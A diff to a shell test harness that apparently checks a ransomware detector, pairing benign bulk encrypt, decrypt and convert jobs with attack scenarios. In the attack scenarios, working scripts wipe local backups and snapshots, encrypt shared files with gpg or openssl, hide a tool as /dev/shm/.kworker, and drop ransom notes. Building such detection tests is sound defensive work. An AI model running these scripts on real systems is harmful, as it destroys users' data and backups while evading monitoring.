@@ -830,3 +830,130 @@ sc_h28_ssh_sudo_find_multi_roots() {
   sshx mkowalski "$(cat $HO/h28.cmd)"
   rm -f $HO/h28.cmd /home/*/MROOT-README.txt /var/www/*/MROOT-README.txt
 }
+
+# ---- eleventh batch, look-alikes: the mirror images of ransomware an admin or user really runs — a restore that
+# decrypts a tree (openssl enc -d, then rm F.enc), gpg --decrypt-files of folders then rm *.gpg, age -d of an archive,
+# mogrify -format webp then removing the originals, rsync --inplace of a mirror, a python tool re-encoding text in place
+pre_b38_ssh_openssl_decrypt_restore() {
+  echo restore-pw-2001 > /home/mkowalski/.restore-pw; chmod 600 /home/mkowalski/.restore-pw
+  find /home/mkowalski/Documents -type f | while read -r f; do
+    openssl enc -aes-256-cbc -pbkdf2 -pass file:/home/mkowalski/.restore-pw -in "$f" -out "$f.enc" && rm -f "$f"; done
+  install -d /home/mkowalski/bin
+  cat > /home/mkowalski/bin/restore-docs.sh <<'S'
+#!/bin/bash
+# restore the documents from last night's encrypted copy: decrypt each F.enc to F, drop the .enc
+find "$HOME/Documents" -type f -name '*.enc' | while read -r f; do
+  openssl enc -d -aes-256-cbc -pbkdf2 -pass file:"$HOME/.restore-pw" -in "$f" -out "${f%.enc}" && rm -f "$f"
+done
+echo "restored $(find "$HOME/Documents" -type f | wc -l) files"
+S
+  chmod 755 /home/mkowalski/bin/restore-docs.sh; chown -R mkowalski: /home/mkowalski/Documents /home/mkowalski/bin /home/mkowalski/.restore-pw
+}
+sc_b38_ssh_openssl_decrypt_restore() {
+  sshx mkowalski '~/bin/restore-docs.sh'
+  rm -rf /home/mkowalski/bin /home/mkowalski/.restore-pw
+}
+pre_b39_ssh_gpg_decrypt_files() {
+  local gh; gh=$(mktemp -d)
+  find /home/priya/work -type f | while read -r f; do
+    gpg --homedir $gh --batch --yes --pinentry-mode loopback --passphrase arch-2002 -c -o "$f.gpg" "$f" 2>/dev/null && rm -f "$f"; done
+  rm -rf $gh; chown -R priya: /home/priya/work
+}
+sc_b39_ssh_gpg_decrypt_files() {
+  sshx priya 'cd ~/work && for d in */; do (cd "$d" && gpg --batch --yes --pinentry-mode loopback --passphrase arch-2002 --decrypt-files *.gpg 2>/dev/null && rm -f *.gpg); done; find ~/work -type f | wc -l'
+}
+pre_b40_ssh_age_decrypt_archive() {
+  install -d -o priya -g priya /home/priya/.config/age /home/priya/backup
+  age-keygen -o /home/priya/.config/age/key.txt 2>/dev/null
+  tar czf - -C /home/priya work | age -r "$(age-keygen -y /home/priya/.config/age/key.txt)" -o /home/priya/backup/work-2026-11.tar.gz.age
+  rm -rf /home/priya/work; chown -R priya: /home/priya/.config /home/priya/backup
+}
+sc_b40_ssh_age_decrypt_archive() {
+  sshx priya 'age -d -i ~/.config/age/key.txt ~/backup/work-2026-11.tar.gz.age | tar xzf - -C ~ && rm -f ~/backup/work-2026-11.tar.gz.age && find ~/work -type f | wc -l'
+  rm -rf /home/priya/backup /home/priya/.config/age
+}
+pre_b41_ssh_mogrify_webp_rm() {
+  rm -rf /home/tomas/Pictures; for d in 2026-10 2026-11 2026-12; do mkdir -p /home/tomas/Pictures/$d
+    for i in $(seq 1 18); do convert -size 320x240 xc:gray +noise Random -quality 85 /home/tomas/Pictures/$d/IMG_$((4100+i)).jpg; done; done
+  chown -R tomas: /home/tomas/Pictures
+}
+sc_b41_ssh_mogrify_webp_rm() {
+  sshx tomas 'cd ~/Pictures && for d in */; do (cd "$d" && mogrify -format webp -quality 80 *.jpg && rm -f *.jpg); done; find ~/Pictures -name "*.webp" | wc -l'
+  rm -rf /home/tomas/Pictures
+}
+pre_b42_ssh_rsync_inplace_mirror() {
+  rm -rf /srv/nas/mirror; cp -a /srv/nas/share /srv/nas/mirror
+  find /srv/nas/share -type f -exec sh -c 'for f; do head -c 3000 /dev/urandom >> "$f"; done' _ {} +
+  chown -R svc-nas: /srv/nas/share /srv/nas/mirror
+}
+sc_b42_ssh_rsync_inplace_mirror() {
+  sshx svc-nas 'rsync -a --inplace --no-whole-file /srv/nas/share/ /srv/nas/mirror/ && echo mirrored'
+  rm -rf /srv/nas/mirror
+}
+pre_b43_ssh_python_reencode_inplace() {
+  rm -rf /home/tomas/legacy; install -d -o tomas -g tomas /home/tomas/bin
+  python3 - <<'P'
+import os, random
+r = random.Random(11)
+words = ['Grüße', 'Straße', 'Müller', 'Çelik', 'año', 'façade', 'Ærø', 'naïve', 'Köln', 'Señor', 'invoice', 'order']
+for d in ['kunden', 'lieferanten', 'protokolle', 'vertraege']:
+    os.makedirs(f'/home/tomas/legacy/{d}', exist_ok=True)
+    for i in range(20):
+        with open(f'/home/tomas/legacy/{d}/{d[:4]}_{i:03d}.txt', 'w', encoding='latin-1') as f:
+            for _ in range(r.randint(40, 200)): f.write(' '.join(r.choice(words) for _ in range(9)) + '\n')
+P
+  cat > /home/tomas/bin/to-utf8.py <<'P'
+import os, sys
+# convert legacy latin-1 text files to UTF-8 in place (same names, same inodes, like iconv -o in a loop)
+n = 0
+for root, dirs, files in os.walk(sys.argv[1]):
+    for name in files:
+        p = os.path.join(root, name)
+        with open(p, 'rb') as f:
+            text = f.read().decode('latin-1')
+        fd = os.open(p, os.O_RDWR | os.O_TRUNC)
+        os.write(fd, text.encode('utf-8'))
+        os.close(fd)
+        n += 1
+print(n, 'files converted')
+P
+  chown -R tomas: /home/tomas/legacy /home/tomas/bin
+}
+sc_b43_ssh_python_reencode_inplace() {
+  sshx tomas 'python3 ~/bin/to-utf8.py ~/legacy'
+  rm -rf /home/tomas/legacy /home/tomas/bin
+}
+
+# ---- eleventh batch, attacks: a locker run by GNU parallel (after apt-get install -y parallel), a locker that first
+# deletes the local backups and snapshots then encrypts through openssl -pass file:, and openssl copied to /dev/shm
+# under a kernel-thread name (a renamed tool: an executable in no list of the detector's)
+sc_h29_ssh_sudo_parallel_gpg() {
+  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -mindepth 1 -type d | wc -l)" > $CASE/facts
+  sshx deploy 'sudo DEBIAN_FRONTEND=noninteractive apt-get install -y parallel >/dev/null 2>&1; cd /srv/nas/share && sudo parallel -j 4 gpg --batch --yes --pinentry-mode loopback --passphrase PrL-77 --symmetric {} ::: */* && sudo parallel -j 4 rm -f {} ::: $(ls -d */* | grep -v "\.gpg$") && for d in */; do echo "All files locked with GPG. Contact prl@onion.example" | sudo tee "$d/PRL-DECRYPT.txt" >/dev/null; done'
+}
+pre_h30_ssh_sudo_wipe_backups_openssl() {
+  rm -rf /var/tmp/rt-varbackups-save; cp -a /var/backups /var/tmp/rt-varbackups-save
+  mkdir -p /var/backups/ho-nightly /srv/backup/snapshots
+  for i in 1 2 3 4 5; do head -c 40000 /dev/urandom > /var/backups/ho-nightly/share-2026-12-0$i.tar.gz; done
+  for s in daily.0 daily.1 weekly.0; do cp -a /srv/nas/share /srv/backup/snapshots/$s; done
+  install -d -m 700 /usr/local/lib/.bk
+  cat > /usr/local/lib/.bk/go.sh <<'S'
+#!/bin/bash
+# no way back first: the local backups and snapshots, then the share
+rm -rf /var/backups/* /srv/backup
+head -c 48 /dev/urandom | base64 > /root/.k
+find /srv/nas/share -type f -exec openssl enc -aes-256-cbc -pbkdf2 -pass file:/root/.k -in {} -out {}.bkl \; -delete
+for d in /srv/nas/share/*/; do printf 'Backups are gone. Files are encrypted. bkl@onion.example\n' > "$d/BKL-README.txt"; done
+shred -u /root/.k
+S
+  chmod 700 /usr/local/lib/.bk/go.sh
+}
+sc_h30_ssh_sudo_wipe_backups_openssl() {
+  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -mindepth 1 -type d | wc -l)" > $CASE/facts
+  sshx mkowalski 'sudo /usr/local/lib/.bk/go.sh'
+  rm -rf /usr/local/lib/.bk /var/backups /srv/backup; cp -a /var/tmp/rt-varbackups-save /var/backups; rm -rf /var/tmp/rt-varbackups-save
+}
+sc_h31_ssh_renamed_openssl_devshm() {
+  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -mindepth 1 -type d | wc -l)" > $CASE/facts
+  sshx priya 'cp /usr/bin/openssl /dev/shm/.kworker && cd ~/work && find . -type f | while read -r f; do /dev/shm/.kworker enc -aes-256-ctr -pbkdf2 -pass pass:kw-19 -in "$f" -out "$f.kw" && rm -f "$f"; done; for d in */; do echo "files encrypted; kw@onion.example" > "$d/KW-RESTORE.txt"; done; rm -f /dev/shm/.kworker'
+}
